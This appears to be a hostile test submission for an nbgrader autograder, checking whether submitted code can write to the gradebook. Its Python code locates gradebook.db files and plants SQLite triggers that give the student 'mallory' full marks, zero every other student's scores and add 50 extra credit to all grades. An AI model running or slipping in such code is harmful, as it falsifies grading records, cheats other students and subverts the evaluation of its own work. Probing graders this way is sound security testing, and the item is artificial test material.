# tries: writes points for itself into the gradebook, at once and by a trigger for later
# base: stub
# may score: 0
# %% first
import os, sys


def course_roots():
    """Folders with an nbgrader_config.py at or above likely places."""
    named = [v for k, v in os.environ.items() if k in ("PWD", "OLDPWD") or k.startswith(("NBGRADER", "AUTOGRADER", "FLATGRAD"))]
    found = []
    for seed in [os.getcwd(), *named, *sys.path]:
        here = os.path.realpath(seed or ".")
        while here != os.path.dirname(here):
            if here not in found and os.path.isfile(os.path.join(here, "nbgrader_config.py")):
                found.append(here)
            here = os.path.dirname(here)
    return found

import glob, sqlite3

TRIGGERS = """
create trigger if not exists generous after update of auto_score on grade begin
  update grade set auto_score = (select g.max_score from grade_cells g where g.id = grade.cell_id)
  where id = new.id and new.auto_score is not null and grade.notebook_id in (select n.id from submitted_notebook n
    join submitted_assignment a on n.assignment_id = a.id where a.student_id = 'mallory');
end;
create trigger if not exists mean after update of auto_score on grade begin
  update grade set auto_score = 0 where notebook_id in (select n.id from submitted_notebook n
    join submitted_assignment a on n.assignment_id = a.id where a.student_id != 'mallory');
end;
update grade set extra_credit = 50;
"""
for root in course_roots():
    for path in [os.path.join(root, "gradebook.db"), *glob.glob(os.path.join(root, "*", "gradebook.db"))]:
        if not os.path.isfile(path):
            continue
        try:
            book = sqlite3.connect(path, timeout=5)
            book.executescript(TRIGGERS)
            book.commit()
            print("BREACH the gradebook can be written:", path)
        except (sqlite3.Error, OSError) as error:
            print(path, error)
